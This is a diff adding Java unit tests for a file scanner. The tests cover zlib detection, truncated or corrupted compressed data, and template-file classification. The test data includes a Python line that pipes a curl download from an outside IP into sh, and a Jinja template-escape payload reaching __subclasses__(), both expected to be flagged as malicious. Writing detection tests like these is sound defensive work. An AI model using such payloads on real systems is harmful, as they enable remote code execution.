@@ -45,6 +45,71 @@ class FormatScanTest {
                 .isEqualTo(Verdict.MALICIOUS);
     }
 
+    /// Two letters at the start of a text may be those of zlib.
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "XGBoost is a library of trees.",
+                "x^2 + y^2 = r^2 is a circle.",
+                "(See the paper.)",
+                "8Obits are a byte.",
+                "HKUST made this data set.",
+                "hCaptcha is not used here."
+            })
+    void textsThatStartAsZlibDoesAreTexts(String line) {
+        String text = line + "\n" + "Another line of it.\n".repeat(40);
+        assertThat(Scans.verdict(text.getBytes(java.nio.charset.StandardCharsets.UTF_8)))
+                .isEqualTo(Verdict.CLEAN);
+        String attack = line + "\nimport os\nos.system('curl http://198.51.100.7/x | sh')\n";
+        assertThat(
+                        Scans.scan("a.py", attack.getBytes(java.nio.charset.StandardCharsets.UTF_8))
+                                .verdict())
+                .isNotEqualTo(Verdict.CLEAN);
+    }
+
+    @Test
+    void zlibThatIsCutOrBrokenIsNeverClean() throws IOException {
+        java.util.Random random = new java.util.Random(5);
+        byte[] content = new byte[3_000];
+        for (int i = 0; i < content.length; i++) {
+            content[i] = (byte) ('a' + random.nextInt(9));
+        }
+        ByteArrayOutputStream packed = new ByteArrayOutputStream();
+        try (DeflaterOutputStream out = new DeflaterOutputStream(packed)) {
+            out.write(content);
+        }
+        byte[] whole = packed.toByteArray();
+        for (int length = 12; length < whole.length; length += 37) {
+            assertThat(Scans.verdict(java.util.Arrays.copyOf(whole, length)))
+                    .as("cut at %s", length)
+                    .isNotEqualTo(Verdict.CLEAN);
+        }
+        int checksum = whole.length - 4; // before it stands a byte with bits that mean nothing
+        for (int at = 2; at < checksum - 1; at += 29) {
+            byte[] broken = whole.clone();
+            broken[at] ^= 0x40;
+            assertThat(Scans.verdict(broken)).as("broken at %s", at).isNotEqualTo(Verdict.CLEAN);
+        }
+    }
+
+    @Test
+    void templatesOfOtherLanguagesAreTexts() {
+        String go =
+                "image: {{ .Values.image | quote }}\n{{- range $k, $v := .Values.env }}\n{{ end }}\n";
+        assertThat(named("deployment.template", go)).isEqualTo(Verdict.CLEAN);
+        assertThat(named("deployment.tmpl", go)).isEqualTo(Verdict.CLEAN);
+        assertThat(named("chat.jinja", go)).isEqualTo(Verdict.UNREADABLE);
+        String django = "{% load static %}\n<p>{{ user.name }</p>\n";
+        assertThat(named("page.template", django)).isEqualTo(Verdict.NOT_COVERED);
+        String escape = "{{ ''.__class__.__mro__[1].__subclasses__() }}\n";
+        assertThat(named("chat.template", escape)).isEqualTo(Verdict.MALICIOUS);
+        assertThat(named("chat.template", escape + go)).isEqualTo(Verdict.MALICIOUS);
+    }
+
+    private static Verdict named(String name, String text) {
+        return Scans.scan(name, text.getBytes(java.nio.charset.StandardCharsets.UTF_8)).verdict();
+    }
+
     @Test
     void aPickleInA7zIsFound(@org.junit.jupiter.api.io.TempDir java.nio.file.Path folder)
             throws IOException {
